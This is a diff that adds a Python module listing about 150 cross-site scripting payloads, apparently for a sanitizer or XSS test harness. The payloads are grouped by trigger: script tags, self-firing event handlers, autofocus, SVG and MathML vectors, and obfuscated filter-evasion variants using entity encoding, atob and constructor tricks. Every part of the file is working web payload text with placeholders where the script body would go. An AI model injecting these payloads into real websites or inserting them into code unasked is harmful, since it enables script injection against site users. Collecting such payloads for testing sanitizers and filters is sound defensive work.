@@ -1,0 +1,162 @@
+"""Payloads that run by themselves: script elements, and handlers that fire without a click."""
+
+from __future__ import annotations
+
+from .payload import HERE, clicked, elsewhere, raw, within
+
+SCRIPTS = raw(
+    "<script>RUN</script>",
+    "<ScRiPt>RUN</sCrIpT>",
+    "<script/x>RUN</script>",
+    "<script\t>RUN</script\n>",
+    "<script\n>RUN</script x>",
+    '<script x=">">RUN</script>',
+    "<<script>RUN</script>",
+    '<img """><script>RUN</script>">',
+    "<script type=module>RUN</script>",
+    "<script type=text/ecmascript>RUN</script>",
+    "<script language=javascript1.2>RUN</script>",
+    "<script><!--\nRUN\n--></script>",
+    "<script src=data:,RUN></script>",
+    "<script src='data:text/javascript;charset=utf-8,RUN'></script>",
+    "<script src=x onerror=RUN></script>",
+    "<script>import('data:text/javascript,RUN')</script>",
+    '<script type=importmap>{"imports":{"x":"data:text/javascript,RUN"}}</script><script>import("x")</script>',
+    "<svg><script>RUN</script></svg>",
+    "<svg><script>&#114;an(NUMBER)</script></svg>",
+    "<svg><script href=data:,RUN /></svg>",
+    "<svg><script xlink:href=data:,RUN></script></svg>",
+    "<svg><script><![CDATA[RUN]]></script></svg>",
+    "<div><template shadowrootmode=open><script>RUN</script></template></div>",
+    "<iframe srcdoc='<script>RUN</script>'></iframe>",
+    "<iframe srcdoc='&lt;script&gt;RUN&lt;/script&gt;'></iframe>",
+    "<iframe src=javascript:RUN></iframe>",
+    "<iframe src='data:text/html,<script>RUN</script>'></iframe>",
+    "<iframe src='DATA:text/html;charset=utf-8,%3Csvg onload=RUN%3E'></iframe>",
+    '<iframe src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>\'></iframe>',
+    "<object data='data:text/html,<script>RUN</script>'></object>",
+    "<embed src='data:text/html,<script>RUN</script>'>",
+)
+
+ELEMENTS = raw(
+    "<img src=x onerror=RUN>",
+    "<img/src/onerror=RUN>",
+    "<img\fsrc=x\fonerror=RUN>",
+    "<IMG SRC=x ONERROR=RUN>",
+    "<img src=x onerror\n=\nRUN>",
+    "<img src='x'onerror='RUN'>",
+    "<img src onerror=RUN//",  # the next bracket of the page closes it
+    "<image src=x onerror=RUN>",
+    "<img src=data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7 onload=RUN>",
+    "<img srcset=x onerror=RUN>",
+    "<picture><source srcset=x><img onerror=RUN></picture>",
+    "<input type=image src=x onerror=RUN>",
+    "<video src=x onerror=RUN></video>",
+    "<video><source onerror=RUN></video>",
+    "<video src=x onloadstart=RUN></video>",
+    "<audio src=x onerror=RUN></audio>",
+    "<audio src=x onloadstart=RUN></audio>",
+    "<object data=x onerror=RUN></object>",
+    "<object data=data:text/html,x onload=RUN></object>",
+    "<embed src=/ onload=RUN>",
+    "<iframe onload=RUN></iframe>",
+    "<link rel=stylesheet href=x onerror=RUN>",
+    "<link rel=stylesheet href=data:text/css, onload=RUN>",
+    "<style onload=RUN></style>",
+    "<body onload=RUN>",
+    "<body onpageshow=RUN>",
+    "<details open ontoggle=RUN>x</details>",
+    "<p style=content-visibility:auto oncontentvisibilityautostatechange=RUN>x</p>",
+    "<style>@keyframes k{}</style><p style='animation:k 1ms' onanimationstart=RUN>x",
+    "<style>@keyframes k{}</style><p style='animation:k 1ms' onanimationend=RUN>x",
+    "<style>@keyframes k{}</style><p style='animation:k 1ms' onwebkitanimationstart=RUN>x",
+    "<style>p{transition:1ms;opacity:1;@starting-style{opacity:0}}</style><p ontransitionend=RUN>x",
+)
+
+FOCUS = raw(
+    "<input autofocus onfocus=RUN>",
+    "<input autofocus onfocusin=RUN>",
+    "<select autofocus onfocus=RUN></select>",
+    "<textarea autofocus onfocus=RUN></textarea>",
+    "<button autofocus onfocus=RUN>x</button>",
+    "<a href=# autofocus onfocus=RUN>x</a>",
+    "<p tabindex=0 autofocus onfocus=RUN>x",
+    "<p contenteditable autofocus onfocus=RUN>x",
+    "<x-y tabindex=1 autofocus onfocus=RUN>x",
+    "<iframe autofocus onfocus=RUN></iframe>",
+    "<svg tabindex=1 autofocus onfocus=RUN></svg>",
+)
+
+DRAWINGS = raw(
+    "<svg onload=RUN>",
+    "<svg/onload=RUN>",
+    "<svg onload=RUN//",
+    "<svg><image href=x onerror=RUN></svg>",
+    "<svg><image xlink:href=x onerror=RUN></svg>",
+    "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
+    "<svg><desc><img src=x onerror=RUN></desc></svg>",
+    "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
+    "<svg><animate onend=RUN attributeName=x dur=1ms></svg>",
+    "<svg><set onbegin=RUN attributeName=x></svg>",
+    "<svg><animateTransform onbegin=RUN attributeName=transform></svg>",
+    "<svg><animateMotion onbegin=RUN dur=1s></svg>",
+    "<math><mtext><img src=x onerror=RUN></mtext></math>",
+    "<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>",
+)
+
+CODE = raw(
+    "<img src=x onerror=&#114;an(NUMBER)>",
+    "<img src=x onerror=&#x72&#x61&#x6e(NUMBER)>",
+    "<img src=x onerror=ran&lpar;NUMBER&rpar;>",
+    "<img src=x onerror=\\u0072an(NUMBER)>",
+    "<img src=x onerror=self['ra'+'n'](NUMBER)>",
+    "<img src=x onerror=window[atob('cmFu')](NUMBER)>",
+    "<img src=x onerror=setTimeout('RUN')>",
+    "<img src=x onerror=Function('RUN')()>",
+    '<img src=x onerror=[].at.constructor("RUN")()>',
+    "<img src=x onerror=eval('\\x72an(NUMBER)')>",
+    "<img src=x onerror=location='javascript:RUN'>",
+    "<img src=x onerror=ran`NUMBER`>",
+    "<script>Promise.reject(NUMBER).catch(ran)</script>",
+    "<script>onerror=()=>RUN;throw 1</script>",
+)
+
+FRAMES = within(f"<!DOCTYPE html>{HERE}", "<frameset onload=RUN><frame></frameset>")
+
+CLICKS = clicked(
+    "<a href=javascript:RUN>go</a>",
+    "<svg width=99 height=99><a href=javascript:RUN><text y=50>go</text></a></svg>",
+    "<svg width=99 height=99><a xlink:href=javascript:RUN><text y=50>go</text></a></svg>",
+    "<form action=javascript:RUN><button>go</button></form>",
+    "<form><button formaction=javascript:RUN>go</button></form>",
+    "<form id=f></form><button form=f formaction=javascript:RUN>go</button>",
+    "<form><input type=submit formaction=javascript:RUN></form>",
+    "<button popovertarget=p>go</button><p id=p popover onbeforetoggle=RUN>x",
+    "<details ontoggle=RUN><summary>go</summary></details>",
+    "<p onclick=RUN>go</p>",
+    "<p onpointerdown=RUN>go</p>",
+    "<p onmouseover=RUN>go</p>",
+)
+
+OTHERS = elsewhere(
+    "<svg width=99 height=99><a><animate attributeName=href values=javascript:RUN /><text y=50>go</text></a></svg>",
+    "<svg width=99 height=99><a><set attributeName=href to=javascript:RUN /><text y=50>go</text></a></svg>",
+    "<marquee onstart=RUN>x</marquee>",
+    "<svg><g onload=RUN></g></svg>",
+    "<svg><style onload=RUN></style></svg>",
+    "<select><style></select><svg onload=RUN></style>",
+    "<img src=javascript:RUN>",
+    "<img dynsrc=javascript:RUN lowsrc=javascript:RUN>",
+    "<bgsound src=javascript:RUN>",
+    "<isindex action=javascript:RUN type=image>",
+    "<table background=javascript:RUN>",
+    "<xml id=x><a><b>&lt;script>RUN&lt;/script></b></a></xml><span datasrc=#x datafld=b dataformatas=html>",
+    "<p style=behavior:url(AWAY)>",
+    "<p style=width:expression(RUN)>",
+    "<p style=-moz-binding:url(AWAY#x)>",
+    "<math href=javascript:RUN>go</math>",
+    "<meta http-equiv=refresh content=0;url=javascript:RUN>",
+    "<link rel=import href=AWAY>",
+)
+
+PAYLOADS = [*SCRIPTS, *ELEMENTS, *FOCUS, *DRAWINGS, *CODE, *FRAMES, *CLICKS, *OTHERS]
